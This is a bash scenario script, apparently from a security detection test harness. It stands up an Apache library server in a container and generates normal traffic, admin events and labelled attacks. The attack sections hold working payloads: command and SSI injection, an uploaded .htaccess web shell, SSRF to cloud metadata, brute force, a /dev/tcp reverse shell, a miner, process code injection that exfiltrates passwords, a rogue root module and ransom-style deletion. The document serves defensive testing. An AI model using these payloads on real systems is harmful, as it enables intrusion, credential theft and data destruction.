# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# apache as the server of a public library: pages with directives, programs by mod_cgid, a host of the
# staff with passwords and WebDAV, a reverse proxy with a cache on disk, TLS with HTTP/2, logs piped to
# rotatelogs. Its sites, its programs and the script that starts it are in services/apache.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=development containers=(apache) port=80 data_directory=/srv/www
configuration_file=/etc/apache2/apache2.conf
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1/pages/page1.html)
image_packages=(apache2 apache2-bin apache2-utils media-types python3 curl bash coreutils findutils grep sed
	gzip dash base-files libc-bin tzdata hostname procps)
rare_own=(new_site new_page new_module certificate reload_command restart_command broken_configuration
	broken_htaccess upstream_gone upstream_slow slow_program failing_program log_killed cache_cleaned
	aborted_transfer password_changed)

image_prepare() {
	local tree=$1 site=$1/srv/www/library i
	mkdir -p "$site"/{pages,files,book,closed} "$tree"/srv/www/{cgi-bin,covers,data,staff,shared} \
		"$tree"/etc/apache2/{tls,mods-enabled,conf-enabled,sites-enabled} \
		"$tree"/var/{log/apache2,lib/apache2,cache/apache2/mod_cache_disk} "$tree"/home/ann/public_html \
		"$tree/usr/local/bin"
	rmdir "$tree"/var/{run,lock}
	ln -s /run "$tree/var/run"
	ln -s /run/lock "$tree/var/lock"
	apache_modules "$tree/etc/apache2"
	apache_content "$tree"
	cp "$here"/services/apache/sites/* "$tree/etc/apache2/sites-available/"
	for i in 000-library 010-library-tls 020-staff; do
		ln -s "../sites-available/$i.conf" "$tree/etc/apache2/sites-enabled/$i.conf"
	done
	for i in "$here"/services/apache/cgi/*; do
		install -m 755 "$i" "$tree/srv/www/cgi-bin/$(basename "$i")"
	done
	install -m 755 "$here/services/apache/start" "$tree/usr/local/bin/apache2-foreground"
	printf '%s:%s\n' ann "$(openssl passwd -apr1 harbour)" bob "$(openssl passwd -apr1 sunshine)" \
		>"$tree/etc/apache2/staff.users"
	echo 'editors: ann' >"$tree/etc/apache2/staff.groups"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example \
		-keyout "$tree/etc/apache2/tls/key.pem" -out "$tree/etc/apache2/tls/cert.pem" 2>/dev/null
	chmod 600 "$tree/etc/apache2/tls/key.pem"
	chroot "$tree" /usr/bin/python3 -m compileall -q /usr/lib/python3.11 >/dev/null || true
	chown -R 33:33 "$tree"/srv/www/{covers,data,shared,library/book} "$tree/var/cache/apache2/mod_cache_disk" \
		"$tree/var/lib/apache2"
}

# apache_modules DIRECTORY: what a2enmod and a2enconf do at the package's installation, and what its administrator
# adds.
apache_modules() {
	local name file
	for name in mpm_event authz_core authz_host authz_user authz_groupfile authn_core authn_file auth_basic \
		access_compat alias dir autoindex env mime negotiation setenvif filter deflate status reqtimeout \
		cgid include headers rewrite expires macro userdir http2 ssl socache_shmcb proxy proxy_http cache \
		cache_disk dav dav_fs; do
		for file in "$1/mods-available/$name".{load,conf}; do
			[ ! -e "$file" ] || ln -s "../mods-available/${file##*/}" "$1/mods-enabled/"
		done
	done
	for name in charset localized-error-pages other-vhosts-access-log security; do
		ln -s "../conf-available/$name.conf" "$1/conf-enabled/"
	done
}

apache_content() {
	local tree=$1 site=$1/srv/www/library i
	for i in $(seq 30); do
		printf '<html><h1>Page %d of the library</h1>%s</html>\n' "$i" "$(seq $((i * i)))" >"$site/pages/page$i.html"
		printf 'list %d: %s\n' "$i" "$(seq -s, $((i * 20)))" >"$tree/srv/www/staff/list$i.txt"
	done
	for i in 1 4 16 64 600 3000; do
		head -c "${i}K" /dev/urandom >"$site/files/$i.bin"
	done
	echo '<html>Opening hours</html>' >"$site/hours.html.en"
	echo '<html>Zeiten</html>' >"$site/hours.html.de"
	echo '<html>Not here: <!--#echo var="REQUEST_URI" --></html>' >"$site/lost.shtml"
	echo '<p>2026-01-01: first</p>' >"$site/book/entries.shtml"
	echo '<h1>Guest book</h1><!--#include virtual="/book/entries.shtml" -->' >"$site/guestbook.shtml"
	cat >"$site/index.shtml" <<-'PAGE'
	<html><h1>Library</h1>Today is <!--#exec cmd="date +%F" -->, the page of <!--#flastmod file="index.shtml" -->.
	<!--#include virtual="/pages/page2.html" --> <!--#fsize virtual="/files/600.bin" --></html>
	PAGE
	cat >"$site/pages/.htaccess" <<-'HTACCESS'
	ExpiresActive on
	ExpiresDefault "access plus 1 hour"
	RewriteEngine on
	RewriteRule ^old(.*)$ page$1 [L]
	HTACCESS
	printf 'AuthType Basic\nAuthName closed\nAuthUserFile /etc/apache2/staff.users\nRequire user bob\n' \
		>"$site/closed/.htaccess"
	printf 'AuthType Basic\nAuthName staff\nAuthUserFile /etc/apache2/staff.users\nRequire valid-user\n' \
		>"$tree/srv/www/staff/.htaccess"
	seq 3000 >"$site/closed/budget.txt"
	echo 'ann:x:1001:1001:Ann,,,:/home/ann:/bin/sh' >>"$tree/etc/passwd"
	echo '<html>The page of Ann</html>' >"$tree/home/ann/public_html/index.html"
	sqlite3 "$tree/srv/www/data/books.db" 'create table books (id integer primary key, title text);
		create table loans (book integer, reader text, since text);
		with recursive n(i) as (select 1 union all select i + 1 from n where i < 400)
		insert into books select i, "Book " || i || " of " || (i * 7919 % 1000) from n'
}

container_fields() {
	arguments=(/usr/local/bin/apache2-foreground)
	volumes=(/var/log/apache2 /srv/www/data /srv/www/shared)
}

peers() {
	world_begin
}

ready() {
	fetch / -o /dev/null
}

# ---- ordinary work ----

cgi() {
	local program=$1
	shift
	fetch "/cgi-bin/$program" "$@"
}

# staff PATH [CURL OPTION…]: a request to the host of the staff.
staff() {
	fetch "$@" -H 'Host: staff.example'
}

# secure PATH [CURL OPTION…]: by TLS.
secure() {
	local path=$1
	shift
	client curl -sSk --max-time 20 "$@" "https://$own_address$path"
}

# cover_upload NAME: what comes on standard input.
cover_upload() {
	client_stdin curl -sS --max-time 20 -F "picture=@-;filename=$1" "http://$own_address/cgi-bin/cover.py"
}

request() {
	local n
	n=$(between 1 30)
	case $((RANDOM % 24)) in
	0 | 1) fetch "/pages/page[1-$n].html" -o /dev/null ;;
	2) fetch "/pages/old$n.html" --compressed -o /dev/null ;;
	3) fetch "/files/$(pick 1 4 16 64 600).bin" -o /dev/null ;;
	4) fetch /files/3000.bin -H 'Range: bytes=1000-900000' -o /dev/null ;;
	5) fetch /hours.html -H "Accept-Language: $(pick en de fr)" -o /dev/null ;;
	6) fetch "/$(pick files pages covers)/" -o /dev/null ;;
	7) fetch "/none/$RANDOM" -o /dev/null ;;
	8) client ab -q -r -c "$(between 1 8)" -n "$((n * 4))" -k "http://$own_address/pages/page$n.html" ;;
	9) fetch "/pages/page$n.html" -H 'If-Modified-Since: Thu, 01 Jan 2037 00:00:00 GMT' -o /dev/null ;;
	10) fetch / --compressed -o /dev/null && fetch '/~ann/' -o /dev/null ;;
	11) cgi "catalogue.py?word=$(pick Book "$n" 7 none)" -o /dev/null ;;
	12) cgi catalogue.py -d "book=$n" -d "reader=$(pick carl dora emil)" -o /dev/null ;;
	13) cgi guestbook.sh -L -o /dev/null -d "$(pick 'Thank you' 'A fine place' 'Back soon, all of us') $RANDOM" ;;
	14) cgi "printable.sh?page$n&$(pick 40 72 100)" -o /dev/null ;;
	15) head -c "$(between 100 90000)" /dev/urandom | cover_upload "cover$n.png" ;;
	16) fetch "/covers/cover$n.png" -o /dev/null ;;
	17) staff "/list$n.txt" -u "$(pick ann:harbour bob:sunshine bob:winter)" -o /dev/null ;;
	18) fetch "/partner/$(pick books/ authors/ news/)$n" -o /dev/null ;;
	19) fetch "/reader/peer.example:8000/page$n" -o /dev/null ;;
	20) secure "/pages/page[1-$n].html" --http2 -o /dev/null ;;
	21) secure "/$(pick cgi-bin/catalogue.py partner/books/1 hours.html)" -o /dev/null ;;
	22) fetch /closed/budget.txt -u "bob:$(pick sunshine sunshine rain)" -o /dev/null ;;
	23) staff /server-status -u ann:harbour -o /dev/null ;;
	esac
	[ $((RANDOM % 4)) != 0 ] || shared_request "$n"
}

# shared_request NUMBER: by WebDAV.
shared_request() {
	case $((RANDOM % 7)) in
	0 | 1) head -c "$(between 100 60000)" /dev/zero | shared_put "/shared/plan$1.odt" ;;
	2) staff "/shared/plan$1.odt" -u bob:sunshine -o /dev/null ;;
	3) staff "/shared/plan$1.odt" -u "$(pick ann:harbour ann:harbour bob:sunshine)" -X DELETE -o /dev/null ;;
	4) staff "/shared/plan$1.odt" -u ann:harbour -X "$(pick COPY MOVE)" -o /dev/null \
		-H "Destination: http://staff.example/shared/old$1.odt" ;;
	5) staff /shared/ -u ann:harbour -X PROPFIND -H 'Depth: 1' -o /dev/null ;;
	6)
		staff "/shared/dir$1/" -u ann:harbour -X MKCOL -o /dev/null
		staff "/shared/plan$1.odt" -u ann:harbour -X LOCK -H 'Content-Type: text/xml' -H 'Timeout: Second-5' \
			-o /dev/null -d "<?xml version='1.0'?><lockinfo xmlns='DAV:'><lockscope><exclusive/></lockscope>\
<locktype><write/></locktype></lockinfo>"
		;;
	esac
}

# shared_put PATH: what comes on standard input.
shared_put() {
	client_stdin curl -sS --max-time 20 -u ann:harbour -H 'Host: staff.example' -o /dev/null -T - \
		"http://$own_address$1"
}

# It takes its configuration anew, and lets old workers end what they do.
reload_service() {
	container_signal apache USR1
}

# The logs that no rotatelogs writes are rotated, a password is set, a page is written.
administer() {
	local logs name
	logs=$(volume_path apache /var/log/apache2)
	for name in error staff; do
		mv "$logs/$name.log" "$logs/$name.log.1"
	done
	session apache /usr/bin/htpasswd -b /etc/apache2/staff.users "$(pick carl dora)" "word$RANDOM"
	echo "<html>News $RANDOM</html>" >"$(image_path apache /srv/www/library/pages/news.html)"
	reload_service
}

# ---- rare events ----

rare_new_site() {
	keep_file apache /etc/apache2/sites-available/news.conf
	keep_file apache /etc/apache2/sites-enabled/news.conf
	undo reload_service
	printf 'Listen 81\n<VirtualHost *:81>\nDocumentRoot /srv/www/library/pages\n</VirtualHost>\n' \
		>"$(image_path apache /etc/apache2/sites-available/news.conf)"
	session apache /bin/ln -s ../sites-available/news.conf /etc/apache2/sites-enabled/news.conf
	reload_service
	sleep 2
	client curl -sS -o /dev/null "http://$own_address:81/page1.html"
}

rare_new_page() {
	keep_file apache /srv/www/library/new.shtml
	echo '<html>new <!--#printenv --></html>' >"$(image_path apache /srv/www/library/new.shtml)"
	fetch /new.shtml -o /dev/null
}

rare_new_module() {
	keep_file apache /etc/apache2/mods-enabled/unique_id.load
	keep_file apache /etc/apache2/mods-enabled/ratelimit.load
	undo reload_service
	session apache /bin/ln -s ../mods-available/unique_id.load /etc/apache2/mods-enabled/unique_id.load
	session apache /bin/ln -s ../mods-available/ratelimit.load /etc/apache2/mods-enabled/ratelimit.load
	reload_service
	sleep 2
	fetch / -o /dev/null
}

rare_certificate() {
	certificate_renew apache /etc/apache2/tls
	reload_service
	sleep 2
	secure / -o /dev/null
}

# As administrators do it who work in the container.
rare_reload_command() {
	session apache /usr/sbin/apache2ctl configtest
	session apache /usr/sbin/apache2ctl graceful
}

# All workers end at once, and so do what they were asked.
rare_restart_command() {
	fetch /files/3000.bin --limit-rate 200k -o /dev/null &
	sleep 1
	session apache /usr/sbin/apache2ctl restart
	wait $! || true
}

# It is tested before it is taken, so nothing happens.
rare_broken_configuration() {
	local file
	file=$(image_path apache /etc/apache2/sites-enabled/broken.conf)
	echo '<VirtualHost *:82' >"$file"
	session apache /usr/sbin/apache2ctl graceful || true
	rm "$file"
}

# Each request to the directory fails until it is put right.
rare_broken_htaccess() {
	local file
	file=$(image_path apache /srv/www/library/files/.htaccess)
	echo 'NoSuchDirective on' >"$file"
	fetch /files/1.bin -o /dev/null
	fetch /files/ -o /dev/null
	rm "$file"
}

rare_upstream_gone() {
	peer_stop world
	sleep 12
	world_start
}

# It takes connections and says nothing.
rare_upstream_slow() {
	peer_stop world
	peer_start world socat "TCP-LISTEN:8000,bind=$peer_address,reuseaddr,fork" 'SYSTEM:sleep 8'
	sleep 14
	peer_stop world
	world_start
}

# The client is gone before the program answers.
rare_slow_program() {
	keep_file apache /srv/www/cgi-bin/slow.sh
	printf '#!/bin/sh\nsleep 6\nprintf "Content-Type: text/plain\\r\\n\\r\\nlate"\n' \
		>"$(image_path apache /srv/www/cgi-bin/slow.sh)"
	chmod 755 "$(image_path apache /srv/www/cgi-bin/slow.sh)"
	cgi slow.sh --max-time 2
	sleep 6
}

# A traceback; a program that is not there; a page that the program does not know.
rare_failing_program() {
	cgi cover.py -d nothing=1 -o /dev/null
	cgi none.py -o /dev/null
	cgi 'printable.sh?none&72' -o /dev/null
}

# A program that takes a log ends; the server starts another.
rare_log_killed() {
	local pid
	for pid in $(tasks_named apache rotatelogs); do
		kill -KILL "$pid"
	done
	sleep 2
	fetch / -o /dev/null
}

rare_cache_cleaned() {
	session apache /usr/bin/htcacheclean -v -t -p/var/cache/apache2/mod_cache_disk -l1K
	fetch /partner/books/1 -o /dev/null
}

rare_aborted_transfer() {
	fetch /files/3000.bin --limit-rate 100k --max-time 2 -o /dev/null
	head -c 9000000 /dev/zero | cover_upload large.png >/dev/null
	head -c 3000000 /dev/zero | client_stdin curl -sS --limit-rate 200k --max-time 2 -u ann:harbour -o /dev/null \
		-H 'Host: staff.example' -T - "http://$own_address/shared/half.odt"
}

# The old one is tried until its owner has understood.
rare_password_changed() {
	session apache /usr/bin/htpasswd -bB /etc/apache2/staff.users ann lighthouse
	for _ in 1 2 3; do
		staff /list1.txt -u ann:harbour -o /dev/null
	done
	staff /list1.txt -u ann:lighthouse -o /dev/null
	session apache /usr/bin/htpasswd -b /etc/apache2/staff.users ann harbour
}

# ---- attacks ----

# print_shell COMMANDS: by the width of a page for the printer; their output on stdout.
print_shell() {
	cgi 'printable.sh?page1' -G --data-urlencode "=72; $(tr -s '\n\t' ' ' <<<"$1") #"
}

attack_command_injection() {
	harm exec /usr/bin/id
	harm read /etc/apache2/staff.users
	print_shell 'id; cat /etc/apache2/staff.users' | tee "$stage/answer" | grep -q uid=33
	grep -q '^ann:.apr1' "$stage/answer"
}

# A line of the guest book that is a directive for the server.
attack_directive_injection() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm read '/proc/*/environ'
	cgi guestbook.sh -o /dev/null -d '<!--#exec cmd="id; cat /etc/passwd /proc/self/environ" -->'
	fetch /guestbook.shtml | tr '\0' '\n' >"$stage/answer"
	grep -q uid=33 "$stage/answer" && grep -q LIBRARY_KEY=key-of "$stage/answer"
}

# Settings of the attacker's own make a picture a program.
attack_settings_uploaded() {
	harm write '/srv/www/covers/.htaccess*'
	harm exec /srv/www/covers/note.png
	harm exec /usr/bin/id
	printf 'Options +ExecCGI\nAddHandler cgi-script .png\n' | cover_upload .htaccess
	# shellcheck disable=SC2016 # the container's shell
	printf '%s\n' '#!/bin/sh' 'printf "Content-Type: text/plain\r\n\r\n"' \
		'sh -c "$(printf %s "$QUERY_STRING" | sed s/+/\ /g)"' | cover_upload note.png
	fetch '/covers/note.png?id;uname+-a' | grep -q uid=33
}

# The reader of other libraries' pages reads what only this machine may: its cloud's metadata.
attack_request_forgery() {
	harm connect 169.254.169.254:80
	fetch /reader/169.254.169.254/latest/meta-data/iam/security-credentials/app | grep -q metadata-secret-key
}

attack_brute_force() {
	local p
	harm read /srv/www/staff/list7.txt
	for p in 123456 password qwerty letmein dragon monkey {1..60} football iloveyou master summer sunshine; do
		! staff /list7.txt -u "bob:$p" | grep -q 'list 7' || return 0
	done
	return 1
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	thief_shell 'id; ls /srv/www; exit'
	print_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
	thief_got uid=33
}

attack_miner() {
	harm exec /tmp/.kworkerd
	harm connect "$peer_address:3333"
	armoury_begin
	print_shell "$(miner_commands /tmp/.kworkerd)"
	pool_got
}

attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	# shellcheck disable=SC2016 # the container's shell
	print_shell "bash -c 'for p in 21 22 23 25 53 80 443 3306 5432 6379 8000 8080 {9000..9100}; do
		(exec 3<>/dev/tcp/$peer_address/\$p) && echo open \$p; done 2>/dev/null'" | grep -q 'open 8000'
}

attack_escape() {
	harm call mount
	harm call unshare
	harm call setns
	harm call ptrace
	print_shell 'python3 -c "import ctypes; c = ctypes.CDLL(None);
		print(c.mount(0, 0, 0, 0, 0), c.setns(0, 0), c.ptrace(16, 1, 0, 0));
		print(c.open(b\"/proc/sys/kernel/core_pattern\", 1), c.open(b\"/sys/fs/cgroup/release_agent\", 1));
		print(\"unshare\", c.unshare(0x10020000))"' | grep -q '^unshare'
}

# worker_pid: the host's pid of a process that answers requests. The master and the one that starts programs have
# one thread.
worker_pid() {
	local pid
	for pid in $(tasks_named apache 'sbin/apache2 -D'); do
		[ "$(find "/proc/$pid/task" -mindepth 1 -maxdepth 1 | wc -l)" -lt 5 ] || { echo "$pid" && return; }
	done
	return 1
}

# Code inside a worker, as after an overflow, starts a shell.
attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm write /tmp/out
	inject_pid "$(worker_pid)" 'print (int) system("id >/tmp/out; cat /etc/apache2/staff.users >>/tmp/out")'
	grep -q uid=33 "$(image_path apache /tmp/out)"
}

# Code inside the master, which is root: reads what only root may.
attack_code_credentials() {
	harm read /etc/shadow
	harm read /etc/apache2/tls/key.pem
	inject_pid "${container_pid[apache]}" 'print (int) open("/etc/shadow", 0)' \
		'print (int) open("/etc/apache2/tls/key.pem", 0)' | tee "$stage/answer"
	[ "$(grep -cE '= [0-9]+' "$stage/answer")" = 2 ]
}

# Code inside a worker sends the passwords away, and starts no program.
attack_code_connect() {
	harm read /etc/apache2/staff.users
	harm connect "$peer_address:4444"
	thief_begin
	code_sends "$(worker_pid)" /etc/apache2/staff.users 4444
	thief_got '^ann:'
}

# A module of the attacker's, written by code inside the master and loaded at the next reload, by root.
attack_module_loaded() {
	harm write /usr/lib/apache2/modules/mod_zlib.so
	harm write /etc/apache2/mods-enabled/zlib.load
	harm mapx /usr/lib/apache2/modules/mod_zlib.so
	harm connect "$peer_address:4444"
	thief_begin
	preload_library "$(image_path apache /tmp/helper)" /etc/shadow
	inject_pid "${container_pid[apache]}" "call (int) system(\"cp /tmp/helper /usr/lib/apache2/modules/mod_zlib.so; \
echo LoadFile /usr/lib/apache2/modules/mod_zlib.so >/etc/apache2/mods-enabled/zlib.load\")"
	reload_service
	thief_got '^root:'
}

# ---- adaptive: known calls, files and peers only ----

# All lists of the staff, and what is closed to readers, by one who has the password.
adaptive_crawl() {
	local n
	harm read '/srv/www/staff/list*.txt'
	harm read /srv/www/library/closed/budget.txt
	for n in $(seq 30); do
		staff "/list$n.txt" -u bob:sunshine
	done | grep -c ^list | grep -qx 30 &&
		fetch /closed/budget.txt -u bob:sunshine | grep -qx 2999
}

# What the staff share is written anew, by one who may.
adaptive_tamper() {
	local n
	harm rename '/srv/www/shared/plan*.odt'
	for n in $(seq 30); do
		echo defaced | shared_put "/shared/plan$n.odt"
	done
	staff /shared/plan7.odt -u bob:sunshine | grep -q defaced
}

# All that the staff share is deleted, and a note says what to pay.
adaptive_ransom() {
	local n
	harm unlink '/srv/www/shared/plan*.odt'
	for n in 1 2 3 4 5 6; do
		seq 2000 | shared_put "/shared/plan$n.odt"
	done
	for n in $(seq 30); do
		staff "/shared/plan$n.odt" -u ann:harbour -X DELETE -o /dev/null
	done
	echo 'Pay, and get your plans back' | shared_put /shared/plan1.odt
	staff /shared/plan2.odt -u bob:sunshine | grep -q 'Not Found'
}

# Code inside a worker sends the passwords to the partner, by calls that every worker makes.
adaptive_upstream() {
	harm read /etc/apache2/staff.users
	harm connect "$peer_address:8000"
	code_sends "$(worker_pid)" /etc/apache2/staff.users 8000
	# Its log has the first line, which is no request.
	until_true 10 grep -q 'apr1' "$stage/peer-world.log"
}
